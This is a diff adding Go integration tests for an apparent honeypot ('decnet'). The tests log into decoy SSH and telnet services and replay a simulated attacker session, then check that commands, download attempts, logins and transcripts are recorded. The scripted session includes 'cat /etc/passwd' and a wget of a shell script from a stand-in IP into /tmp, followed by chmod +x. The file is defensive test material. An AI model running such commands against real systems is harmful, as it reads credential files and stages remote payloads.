@@ -1,0 +1,322 @@
+package app
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"fmt"
+	"io"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/decnet/decnet/internal/bus"
+	"github.com/decnet/decnet/internal/fleet"
+	"github.com/decnet/decnet/internal/model"
+	"github.com/decnet/decnet/internal/services/loginshell"
+	"github.com/decnet/decnet/internal/store"
+	"github.com/decnet/decnet/internal/testenv"
+)
+
+// startDemo runs an App with the demo fleet on subnet and returns it with
+// the addresses of its deckies by name.
+func startDemo(t *testing.T, subnet string) (*App, map[string]fleet.Status) {
+	t.Helper()
+	cfg := testConfig(t, nil)
+	out := &syncBuffer{}
+	a, err := New(cfg, Options{Out: out, DemoSubnet: subnet})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := a.Start(context.Background()); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() {
+		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
+		defer cancel()
+		if err := a.Stop(ctx); err != nil {
+			t.Errorf("stop: %v", err)
+		}
+	})
+	sts, err := a.fleet.Status(context.Background())
+	if err != nil {
+		t.Fatal(err)
+	}
+	byName := map[string]fleet.Status{}
+	for _, st := range sts {
+		if !st.Serving {
+			t.Fatalf("demo decky %s is not serving: %s %s", st.Name, st.State, st.LastError)
+		}
+		byName[st.Name] = st
+	}
+	if !strings.Contains(out.String(), "linux-server-01") {
+		t.Errorf("startup output does not list the demo fleet:\n%s", out.String())
+	}
+	return a, byName
+}
+
+// sessions collects attacker.session.ended payloads.
+type sessions struct {
+	mu  sync.Mutex
+	got []loginshell.Ended
+}
+
+func subscribeSessions(t *testing.T, b *bus.Bus) *sessions {
+	t.Helper()
+	s := &sessions{}
+	_, err := b.Subscribe(bus.AttackerSessionEnded, "", func(e bus.Envelope) {
+		var p loginshell.Ended
+		if err := json.Unmarshal(e.Payload, &p); err != nil {
+			t.Errorf("session.ended payload: %v", err)
+			return
+		}
+		s.mu.Lock()
+		s.got = append(s.got, p)
+		s.mu.Unlock()
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return s
+}
+
+func (s *sessions) wait(t *testing.T, n int) []loginshell.Ended {
+	t.Helper()
+	var out []loginshell.Ended
+	checkFor(t, 10*time.Second, func() error {
+		s.mu.Lock()
+		defer s.mu.Unlock()
+		if len(s.got) < n {
+			return fmt.Errorf("%d session.ended notifications, want %d", len(s.got), n)
+		}
+		out = slices.Clone(s.got)
+		return nil
+	})
+	return out
+}
+
+// logsOf returns the decky's logs rows, oldest first, once want rows of
+// eventType exist.
+func logsOf(t *testing.T, s store.LogRepository, decky, eventType string, want int) []model.LogEntry {
+	t.Helper()
+	var rows []model.LogEntry
+	checkFor(t, 10*time.Second, func() error {
+		all, err := s.ListLogs(context.Background(), store.LogQuery{Decky: decky, Limit: 500})
+		if err != nil {
+			return err
+		}
+		rows = nil
+		n := 0
+		for i := len(all) - 1; i >= 0; i-- {
+			rows = append(rows, all[i])
+			if all[i].EventType == eventType {
+				n++
+			}
+		}
+		if n < want {
+			return fmt.Errorf("%d %s rows for %s, want %d", n, eventType, decky, want)
+		}
+		return nil
+	})
+	return rows
+}
+
+func ofType(rows []model.LogEntry, typ string) []model.LogEntry {
+	var out []model.LogEntry
+	for _, r := range rows {
+		if r.EventType == typ {
+			out = append(out, r)
+		}
+	}
+	return out
+}
+
+var attackCommands = []string{"uname -a", "cat /etc/passwd", "wget http://203.0.113.5/x.sh -O /tmp/x.sh", "chmod +x /tmp/x.sh", "ls -la /tmp"}
+
+// checkAttackSession verifies what one session running the commands want
+// left in the database and on the bus.
+func checkAttackSession(t *testing.T, a *App, decky, service string, ended loginshell.Ended, want []string) {
+	t.Helper()
+	var texts []string
+	for _, c := range ended.Commands {
+		texts = append(texts, c.CommandText)
+	}
+	if !slices.Equal(texts, want) || ended.Service != service || ended.Decky != decky || ended.User != "root" {
+		t.Errorf("session.ended %+v, commands %q", ended, texts)
+	}
+	rows := logsOf(t, a.Store(), decky, "session_recorded", 1)
+	var cmds []string
+	for _, r := range ofType(rows, "command") {
+		cmds = append(cmds, r.Fields["command"])
+		if r.Fields["user"] != "root" || r.Fields["cwd"] == "" || r.SessionID != ended.SessionID {
+			t.Errorf("command row %+v", r)
+		}
+	}
+	if !slices.Equal(cmds, want) {
+		t.Errorf("command rows %q, want %q", cmds, want)
+	}
+	dl := ofType(rows, "download_attempt")
+	if len(dl) != 1 || dl[0].Fields["url"] != "http://203.0.113.5/x.sh" || dl[0].Fields["host"] != "203.0.113.5" || dl[0].Fields["path"] != "/tmp/x.sh" {
+		t.Errorf("download rows %+v", dl)
+	}
+	var outcomes []string
+	for _, r := range ofType(rows, "auth_attempt") {
+		outcomes = append(outcomes, r.Fields["outcome"])
+		if r.Fields["secret_b64"] == "" || r.Fields["principal"] != "root" {
+			t.Errorf("auth row %+v", r)
+		}
+	}
+	if !slices.Contains(outcomes, "failure") || !slices.Contains(outcomes, "success") {
+		t.Errorf("auth outcomes %q, want a failure and a success", outcomes)
+	}
+}
+
+// checkTranscript parses an asciicast v2 file and looks for want in its
+// output.
+func checkTranscript(t *testing.T, path string, want ...string) {
+	t.Helper()
+	data, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatalf("transcript: %v", err)
+	}
+	lines := strings.Split(strings.TrimSpace(string(data)), "\n")
+	var hdr struct {
+		Version int `json:"version"`
+		Width   int `json:"width"`
+	}
+	if err := json.Unmarshal([]byte(lines[0]), &hdr); err != nil || hdr.Version != 2 || hdr.Width == 0 {
+		t.Fatalf("transcript header %q: %v", lines[0], err)
+	}
+	var output strings.Builder
+	last := 0.0
+	for _, l := range lines[1:] {
+		var ev [3]any
+		if err := json.Unmarshal([]byte(l), &ev); err != nil {
+			t.Fatalf("transcript line %q: %v", l, err)
+		}
+		ts, _ := ev[0].(float64)
+		if ts < last {
+			t.Fatalf("transcript goes back in time at %q", l)
+		}
+		last = ts
+		if ev[1] == "o" {
+			output.WriteString(ev[2].(string))
+		}
+	}
+	for _, w := range want {
+		if !strings.Contains(output.String(), w) {
+			t.Errorf("transcript output lacks %q", w)
+		}
+	}
+}
+
+func sshArgs(ip string) []string {
+	return []string{"-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
+		"-o", "PreferredAuthentications=password", "-o", "NumberOfPasswordPrompts=1", "-o", "ConnectTimeout=10", "root@" + ip}
+}
+
+func TestOpenSSHClientLoginCommandsAndSessionEnded(t *testing.T) {
+	sshpass := testenv.Binary(t, "sshpass")
+	testenv.Binary(t, "ssh")
+	a, deckies := startDemo(t, "127.79.1.0/24")
+	sess := subscribeSessions(t, a.Bus())
+	d := deckies["linux-server-01"]
+
+	// A failed login, then the attack through a successful one.
+	fail := exec.Command(sshpass, append([]string{"-p", "wrong-password", "ssh"}, append(sshArgs(d.IP), "id")...)...)
+	if out, err := fail.CombinedOutput(); err == nil || !strings.Contains(string(out), "Permission denied") {
+		t.Fatalf("wrong password: %v\n%s", err, out)
+	}
+	cmd := exec.Command(sshpass, append([]string{"-p", "admin", "ssh"}, append(sshArgs(d.IP), strings.Join(attackCommands, "; "))...)...)
+	out, err := cmd.CombinedOutput()
+	if err != nil {
+		t.Fatalf("ssh: %v\n%s", err, out)
+	}
+	for _, want := range []string{"Linux " + d.Hostname, "root:x:0:0:root:/root:/bin/bash", "x.sh"} {
+		if !bytes.Contains(out, []byte(want)) {
+			t.Errorf("ssh output lacks %q:\n%s", want, out)
+		}
+	}
+	ended := sess.wait(t, 1)
+	checkAttackSession(t, a, d.Name, "ssh", ended[0], attackCommands)
+
+	// An interactive login with a pty is recorded as a transcript.
+	shell := exec.Command(sshpass, append([]string{"-p", "admin", "ssh", "-tt"}, sshArgs(d.IP)...)...)
+	stdin, _ := shell.StdinPipe()
+	var tty bytes.Buffer
+	shell.Stdout, shell.Stderr = &tty, &tty
+	if err := shell.Start(); err != nil {
+		t.Fatal(err)
+	}
+	go func() {
+		for _, line := range []string{"hostname", "cat /etc/os-release", "exit"} {
+			time.Sleep(700 * time.Millisecond)
+			io.WriteString(stdin, line+"\r")
+		}
+	}()
+	if err := shell.Wait(); err != nil {
+		t.Fatalf("interactive ssh: %v\n%s", err, tty.String())
+	}
+	ended = sess.wait(t, 2)
+	if ended[1].Transcript == "" {
+		t.Fatalf("interactive session has no transcript: %+v", ended[1])
+	}
+	checkTranscript(t, ended[1].Transcript, "root@"+d.Hostname, d.Hostname+"\r\n", "PRETTY_NAME=")
+	if !strings.HasPrefix(ended[1].Transcript, filepath.Join(a.cfg.DataDir, "artifacts", d.Name, "ssh")) {
+		t.Errorf("transcript %s is outside the decky's artifacts", ended[1].Transcript)
+	}
+}
+
+func TestTelnetClientLoginCommandsAndSessionEnded(t *testing.T) {
+	telnet := testenv.Binary(t, "telnet")
+	a, deckies := startDemo(t, "127.79.2.0/24")
+	sess := subscribeSessions(t, a.Bus())
+	d := deckies["iot-device-01"]
+
+	cmd := exec.Command(telnet, d.IP, "23")
+	stdin, _ := cmd.StdinPipe()
+	var out bytes.Buffer
+	cmd.Stdout, cmd.Stderr = &out, &out
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	// The telnet client in character mode turns "\n" into the CR LF a
+	// terminal's Enter sends. Failed logins cost login(1)'s delay.
+	script := []struct {
+		wait time.Duration
+		line string
+	}{
+		{time.Second, "root"}, {500 * time.Millisecond, "wrong"}, {3 * time.Second, "root"}, {500 * time.Millisecond, "admin"},
+		{time.Second, strings.Join(attackCommands, "; ")}, {3 * time.Second, "exit"},
+	}
+	go func() {
+		for _, s := range script {
+			time.Sleep(s.wait)
+			io.WriteString(stdin, s.line+"\n")
+		}
+		time.Sleep(2 * time.Second)
+		stdin.Close()
+	}()
+	done := make(chan error, 1)
+	go func() { done <- cmd.Wait() }()
+	select {
+	case <-done:
+	case <-time.After(30 * time.Second):
+		cmd.Process.Kill()
+		t.Fatalf("telnet session did not end:\n%s", out.String())
+	}
+	for _, want := range []string{d.Hostname + " login: ", "Login incorrect", "BusyBox", "Linux " + d.Hostname, "x.sh"} {
+		if !strings.Contains(out.String(), want) {
+			t.Errorf("telnet output lacks %q:\n%s", want, out.String())
+		}
+	}
+	ended := sess.wait(t, 1)
+	// The interactive session ends with the exit the client typed.
+	checkAttackSession(t, a, d.Name, "telnet", ended[0], append(slices.Clone(attackCommands), "exit"))
+	checkTranscript(t, ended[0].Transcript, d.Hostname, "root:x:0:0:root")
+}
